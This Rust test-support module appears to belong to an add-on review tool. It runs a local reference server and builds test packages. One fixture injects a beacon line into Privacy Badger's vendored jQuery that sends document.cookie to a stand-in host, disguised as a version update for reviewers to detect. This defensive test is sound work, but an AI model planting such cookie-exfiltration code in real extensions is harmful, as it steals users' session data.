//! What Vetter's test suites share, so each does not keep its own copy: the real reference
//! server run in-process on 127.0.0.1 (a test can stop and restart it), the demo seed and its
//! reviewers, the builder that turns a fetched pdf.js release into an add-on, and what the
//! crash tests need: a seeded generator, code-like filler, and the file's integrity checks.
//!
//! Test binaries of one crate cannot import another crate's `tests/` modules; a crate can.

pub mod postgres;

use std::net::{SocketAddr, TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use vetter_archive::{ArchiveError, Limits, read_archive_file};
use vetter_protocol::auth::Credentials;

/// The demo seed's first reviewer (public demo credentials from fixtures/demo/seed.json).
pub const REVIEWER_KEY: &str = "user:4242:1";
/// Its secret (a public demo value, not a real credential).
pub const REVIEWER_SECRET: &str = "demo-secret-4242-not-for-production";
/// The demo seed's second reviewer.
pub const OTHER_KEY: &str = "user:4343:1";
/// Its secret.
pub const OTHER_SECRET: &str = "demo-secret-4343-not-for-production";

/// The demo seed folder (fixtures/demo).
pub fn demo_seed() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../fixtures/demo")
}

/// The first reviewer's credentials.
pub fn reviewer() -> Credentials {
    Credentials::new(REVIEWER_KEY, REVIEWER_SECRET)
}

/// The second reviewer's credentials.
pub fn other_reviewer() -> Credentials {
    Credentials::new(OTHER_KEY, OTHER_SECRET)
}

/// Why the in-process server did not come up.
#[derive(Debug, thiserror::Error)]
#[error("the reference server did not start on 127.0.0.1:{port}: {detail}")]
pub struct ServerStartError {
    /// The port it was given.
    pub port: u16,
    /// What went wrong.
    pub detail: String,
}

/// The reference server on its own tokio runtime in this process; dropping it stops it.
pub struct Server {
    runtime: Option<tokio::runtime::Runtime>,
    /// Its data folder.
    pub data_dir: PathBuf,
    /// `http://127.0.0.1:PORT`.
    pub url: String,
    port: u16,
}

impl Server {
    /// Starts a server on `data_dir` (seeded with the demo seed when empty) on `port` (0 = a
    /// free one) and waits, at most 60 s, until it accepts connections.
    pub fn start(data_dir: &Path, port: u16) -> Result<Server, ServerStartError> {
        let fail = |port: u16, detail: String| ServerStartError { port, detail };
        // Bound here and handed over, so no parallel test can take the port in between.
        let listener =
            TcpListener::bind(("127.0.0.1", port)).map_err(|e| fail(port, e.to_string()))?;
        let port = listener.local_addr().map(|a| a.port()).unwrap_or(port);
        let runtime = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(2)
            .enable_all()
            .build()
            .map_err(|e| fail(port, e.to_string()))?;
        let config = vetter_server::Config {
            seed: Some(demo_seed()),
            ..vetter_server::Config::new(
                data_dir.to_owned(),
                SocketAddr::from(([127, 0, 0, 1], port)),
            )
        };
        let task = runtime.spawn(vetter_server::serve_on(config, listener));
        let deadline = Instant::now() + Duration::from_secs(60);
        while TcpStream::connect(("127.0.0.1", port)).is_err() {
            if task.is_finished() {
                return Err(fail(port, "the server exited while starting".into()));
            }
            if Instant::now() > deadline {
                return Err(fail(port, "not listening after 60 s".into()));
            }
            std::thread::sleep(Duration::from_millis(20));
        }
        Ok(Server {
            runtime: Some(runtime),
            data_dir: data_dir.to_owned(),
            url: format!("http://127.0.0.1:{port}"),
            port,
        })
    }

    /// The port it listens on.
    pub fn port(&self) -> u16 {
        self.port
    }

    /// Stops it and waits (at most 10 s) until connections are refused, so a test can then
    /// play "the server is away" or restart it on the same port.
    pub fn stop(mut self) {
        if let Some(runtime) = self.runtime.take() {
            runtime.shutdown_timeout(Duration::from_secs(5));
        }
        let deadline = Instant::now() + Duration::from_secs(10);
        while TcpStream::connect(("127.0.0.1", self.port)).is_ok() {
            assert!(Instant::now() < deadline, "the server did not stop");
            std::thread::sleep(Duration::from_millis(20));
        }
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        if let Some(runtime) = self.runtime.take() {
            runtime.shutdown_background();
        }
    }
}

/// A pdfjs-dist release (the fetched zip at `zip`) as an add-on XPI: its files plus a
/// generated manifest.json naming the release, with gecko id `guid`.
///
/// pdfjs-dist is an npm package, not an extension, and the cache groups versions by the
/// manifest's identity; an extension bundling pdf.js would ship exactly such a manifest.
pub fn pdfjs_xpi(zip: &Path, version: &str, guid: &str) -> Result<Vec<u8>, ArchiveError> {
    let archive = read_archive_file(zip, &Limits::default())?;
    let manifest = format!(
        r#"{{"manifest_version": 3, "name": "pdf.js bundle", "version": "{version}",
            "browser_specific_settings": {{"gecko": {{"id": "{guid}"}}}}}}"#
    );
    let mut files: Vec<(&str, &[u8])> = vec![("manifest.json", manifest.as_bytes())];
    files.extend(
        archive
            .entries
            .iter()
            .map(|e| (e.path.as_str(), e.data.as_slice())),
    );
    Ok(vetter_fixtures::zip_files(&files))
}

/// The line injected into Privacy Badger's vendored jQuery by [`tampered_privacy_badger`].
pub const INJECTED_BEACON: &str =
    "navigator.sendBeacon('https://collect.badger-stats.example/b', document.cookie);";

/// The 1-based line of jQuery that [`INJECTED_BEACON`] becomes.
pub const INJECTED_LINE: u32 = 10_001;

/// Privacy Badger 2020.10.7 (the fetched zip at `zip`) as the update a reviewer must catch:
/// version 2020.10.8, whose vendored jQuery 3.5.1 carries [`INJECTED_BEACON`] at line
/// [`INJECTED_LINE`], everything else as it was.
pub fn tampered_privacy_badger(zip: &Path) -> Result<Vec<u8>, ArchiveError> {
    let archive = read_archive_file(zip, &Limits::default())?;
    let files: Vec<(String, Vec<u8>)> = archive
        .entries
        .into_iter()
        .map(|e| {
            let data = match e.path.as_str() {
                "manifest.json" => String::from_utf8_lossy(&e.data)
                    .replacen(
                        "\"version\": \"2020.10.7\"",
                        "\"version\": \"2020.10.8\"",
                        1,
                    )
                    .into_bytes(),
                "lib/vendor/jquery-3.5.1.js" => {
                    let text = String::from_utf8_lossy(&e.data).into_owned();
                    let mut lines: Vec<&str> = text.split_inclusive('\n').collect();
                    let injected = format!("{INJECTED_BEACON}\n");
                    lines.insert(INJECTED_LINE as usize - 1, &injected);
                    lines.concat().into_bytes()
                }
                _ => e.data,
            };
            (e.path, data)
        })
        .collect();
    Ok(vetter_fixtures::zip_files(&files))
}

/// splitmix64: a seeded generator, so a failing run can be replayed from its seed.
#[derive(Debug, Clone)]
pub struct Rng(pub u64);

impl Rng {
    /// The next 64 random bits.
    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// A number in `0..n` (0 when `n` is 0).
    pub fn below(&mut self, n: u64) -> u64 {
        if n == 0 { 0 } else { self.next_u64() % n }
    }
}

/// About `bytes` of text that compresses like code but not trivially (words drawn at random),
/// so an import of it runs long enough for a crash test to land a kill inside it.
pub fn code_like_text(rng: &mut Rng, bytes: usize) -> Vec<u8> {
    const WORDS: [&str; 12] = [
        "function", "return", "const", "value", "event", "listener", "window", "document", "=>",
        "{", "}", ";\n",
    ];
    let mut out = Vec::with_capacity(bytes + 32);
    while out.len() < bytes {
        out.extend_from_slice(WORDS[rng.below(WORDS.len() as u64) as usize].as_bytes());
        out.extend_from_slice(format!(" v{} ", rng.below(5000)).as_bytes());
    }
    out
}

/// `PRAGMA integrity_check` and the number of foreign-key violations of the cache in
/// `data_dir`, read through a read-only connection.
pub fn integrity(data_dir: &Path) -> Result<(String, i64), vetter_store::StoreError> {
    let conn = vetter_store::open_read_only(&data_dir.join(vetter_store::DB_FILE))?;
    let check: String = conn.query_row("PRAGMA integrity_check", [], |r| r.get(0))?;
    let broken: i64 = conn.query_row("SELECT count(*) FROM pragma_foreign_key_check", [], |r| {
        r.get(0)
    })?;
    Ok((check, broken))
}

/// A server process (see [`spawn_server_process`]), killed when dropped (also when a test
/// panics).
pub struct ServerProcess {
    /// The process.
    pub child: std::process::Child,
    /// `http://127.0.0.1:PORT`, as it announced.
    pub base: String,
}

impl Drop for ServerProcess {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Starts the `vetter-server` binary `bin` on a free loopback port with its data in `data`, the
/// seed in `seed` and more `args`, logging at `log_level` (`VETTER_LOG`) to `stderr`, and reads
/// the address it announces on its first line. Returns the process and that address.
pub fn spawn_server_process(
    bin: &Path,
    data: &Path,
    seed: &Path,
    args: &[String],
    log_level: &str,
    stderr: std::process::Stdio,
) -> (std::process::Child, String) {
    use std::io::BufRead;
    let mut child = std::process::Command::new(bin)
        .args(["--listen", "127.0.0.1:0", "--data"])
        .arg(data)
        .arg("--seed")
        .arg(seed)
        .args(args)
        .env("VETTER_LOG", log_level)
        .stdout(std::process::Stdio::piped())
        .stderr(stderr)
        .spawn()
        .expect("vetter-server starts");
    let mut line = String::new();
    std::io::BufReader::new(child.stdout.take().expect("piped stdout"))
        .read_line(&mut line)
        .expect("vetter-server prints its address");
    let base = line
        .trim()
        .strip_prefix("listening on ")
        .unwrap_or_else(|| panic!("unexpected first line {line:?}"))
        .to_owned();
    (child, base)
}

/// `reviewer`'s decision `action`, signed with `key`, on the version under review of `entry` (a
/// queue entry as the server lists it): the body of a decision POST. A rejection cites the
/// reason `policy`.
pub fn signed_decision(
    key: &vetter_decision::signing::ReviewerKey,
    reviewer: &str,
    entry: &serde_json::Value,
    action: vetter_decision::Action,
) -> Vec<u8> {
    let text = |v: &serde_json::Value| v.as_str().expect("a string in the queue entry").to_owned();
    let number = |v: &serde_json::Value| v.as_i64().expect("a number in the queue entry");
    let input = vetter_decision::DecisionInput {
        comments: "Checked against the previous version.".to_owned(),
        reasons: if action == vetter_decision::Action::Reject {
            vec!["policy".to_owned()]
        } else {
            vec![]
        },
        ..vetter_decision::DecisionInput::default()
    };
    let decision = vetter_decision::Decision::new(
        reviewer,
        vetter_decision::AddonRef {
            id: number(&entry["addon"]["id"]),
            guid: text(&entry["addon"]["guid"]),
        },
        vetter_decision::VersionRef {
            id: number(&entry["version"]["id"]),
            version: text(&entry["version"]["version"]),
            file_sha256: text(&entry["version"]["file"]["hash"])
                .trim_start_matches("sha256:")
                .to_owned(),
        },
        action,
        input,
    )
    .expect("a valid decision");
    key.sign(&decision).expect("signed").into_bytes()
}
